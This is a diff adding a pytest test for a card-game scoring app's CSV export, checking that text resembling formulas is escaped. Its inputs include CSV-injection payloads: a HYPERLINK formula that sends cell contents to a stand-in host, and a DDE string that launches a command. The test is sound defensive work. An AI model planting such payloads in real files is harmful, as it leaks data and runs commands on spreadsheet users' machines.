@@ -63,3 +63,27 @@ def test_a_file_with_events_before_the_first_hand_imports(client):
     table = Table.objects.get()
     assert table.events == [{**events[0], "score": 0}, *events[1:]]
     pages_of(client, table)
+
+
+# --- the spreadsheet export -------------------------------------------------------------------
+
+LINK = '=HYPERLINK("http://x.io/"&A1,"Asha")'
+TRICKY = [LINK, "+Bikash", "@Chandra", "-Dipa"]
+
+
+def test_the_spreadsheet_writes_text_that_looks_like_a_formula_as_text_and_numbers_as_numbers(client, owner):
+    hand = {name: {"status": "winner" if name == LINK else "seen", "maal": 5} for name in TRICKY}
+    events = [{"after": 1, "kind": "adjust", "reason": "=1+1 pizza",
+               "points": {LINK: -20, "+Bikash": 5, "@Chandra": 5, "-Dipa": 10}},
+              {"after": 1, "kind": "join", "player": "=Eka", "seat": 4}]
+    table = seeded(owner, "marriage", [hand], players=TRICKY, events=events)
+    services.set_note(table, 1, "@SUM(1+1)*cmd|' /C calc'!A0")
+    rows = list(csv.reader(io.StringIO(client.get(reverse("export_csv", args=[table.keeper_token])).content
+                                       .decode())))
+    header, first, adjusted, joined, totals = rows
+    assert header == ["Hand", *(f"'{name}" for name in TRICKY), "'=Eka", "Note"]
+    assert first[-1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert adjusted[1:6] == ["-20", "5", "5", "10", ""] and adjusted[-1].startswith("'=1+1 pizza: ")
+    assert joined[-1].startswith("'=Eka sat down")
+    assert totals[0] == "Total" and all(cell.lstrip("-").isdigit() for cell in totals[1:])
+    assert any(cell.startswith("-") for cell in totals[1:])  # a negative total, still a number
